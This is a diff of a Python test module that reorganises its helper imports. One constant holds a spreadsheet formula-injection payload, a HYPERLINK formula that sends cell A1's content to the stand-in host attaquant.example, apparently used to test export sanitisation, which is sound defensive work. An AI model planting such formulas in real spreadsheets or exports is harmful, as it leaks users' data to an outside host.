@@ -11,9 +11,8 @@ from typing import Any
 
 from sqlalchemy import select
 
-from tests.conftest import agent_json
-from tests.web.agent.test_catalog import NOW_PARIS, utc
-from tests.web.partner.test_shipments import place
+from tests.factories import NOW_PARIS, agent_json, utc
+from tests.web.partner.helpers import place
 
 SESSION_AT = utc(NOW_PARIS + timedelta(days=30))
 FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez ici")'
@@ -85,7 +84,7 @@ def _card_order(app: Any, number: str, card_id: int) -> str:
     from auth.principals import agent_user
     from orders import cart as carts
     from orders import services
-    from tests.web.partner.test_shipments import pay_order
+    from tests.web.partner.helpers import pay_order
 
     with app.app_context():
         agent = agent_user(dossier_source().get(number))
